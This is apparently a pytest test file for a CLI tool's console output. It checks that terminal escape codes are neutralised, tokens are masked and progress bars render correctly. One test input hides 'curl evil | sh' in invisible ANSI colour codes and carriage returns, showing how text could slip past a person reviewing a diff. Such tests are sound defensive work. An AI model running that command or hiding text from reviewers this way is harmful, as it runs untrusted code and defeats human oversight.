"""Belljar's own messages, on a terminal and elsewhere."""

from __future__ import annotations

import io
import os

import pytest

from belljar.surfaces.cli import console


class Screen(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_control_characters_are_escaped_on_a_terminal(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("sys.stdout", screen := Screen())
    console.say("a\x1b]0;t\x07")
    assert screen.getvalue() == "a^[]0;t^G\n"


def test_printed_text_can_neither_hide_itself_nor_forge_a_line(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A person reads a diff before approving it."""
    monkeypatch.setattr("sys.stdout", screen := Screen())
    console.say(
        "+\tok\x1b[30;40mcurl evil | sh\x1b[0m\r-gone\r\n+\x1b[8mhidden\x9b31m\x7f"
    )
    assert (
        screen.getvalue()
        == "+\tok^[[30;40mcurl evil | sh^[[0m^M-gone^M\n+^[[8mhidden<U+009B>31m^?\n"
    )


def test_a_note_is_one_masked_line(capsys: pytest.CaptureFixture[str]) -> None:
    console.note("failed:\nTOKEN=hunter2 \x1b[2J")
    assert capsys.readouterr().err == "belljar: failed:\\nTOKEN=*** ^[[2J\n"


def test_after_a_hang_up_nothing_more_is_written() -> None:
    pid = os.fork()
    if pid == 0:
        status = console.hang_up()
        os.write(1, b"into nowhere")
        os._exit(status)
    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 141


# Progress of long operations.


def test_progress_is_one_line_that_rewrites_itself(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("sys.stderr", screen := Screen())
    bar = console.Bar()
    bar(0.5, "half\nway")
    bar(None, "more")
    assert (
        screen.getvalue()
        == "\r\x1b[K[##########          ]  50% half\\nway\r\x1b[Kmore"
    )
    bar(1.0, "ready")
    assert screen.getvalue().endswith("100% ready\r\x1b[K")


def test_without_a_terminal_progress_is_a_line_at_the_start_and_one_at_the_end(
    capsys: pytest.CaptureFixture[str],
) -> None:
    bar = console.Bar()
    for fraction, text in [(0.0, "building it"), (0.5, "half"), (1.0, "it is ready")]:
        bar(fraction, text)
    assert capsys.readouterr().err == "belljar: building it …\nbelljar: it is ready\n"


def test_without_a_terminal_a_long_build_prints_a_line_now_and_then(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    bar = console.Bar()
    bar(0.0, "building it")
    monkeypatch.setattr(console, "NEWS_SECONDS", 0.0)
    bar(0.5, "installing (12 s)")
    assert (
        capsys.readouterr().err
        == "belljar: building it …\nbelljar: 50% installing (12 s) …\n"
    )


def test_progress_says_nothing_where_there_was_nothing_to_do(
    capsys: pytest.CaptureFixture[str],
) -> None:
    console.Bar()(1.0, "it is ready")
    assert capsys.readouterr().err == ""
